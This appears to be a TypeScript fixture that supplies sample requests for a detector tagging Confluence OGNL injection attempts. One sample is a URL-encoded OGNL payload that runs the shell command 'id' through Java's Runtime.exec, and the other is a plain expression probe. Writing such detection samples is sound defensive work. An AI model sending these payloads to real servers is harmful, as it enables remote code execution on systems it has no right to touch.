import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'confluence-ognl',
    get('/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/'),
    get('/%24%7Bname%7D'),
  ),
]
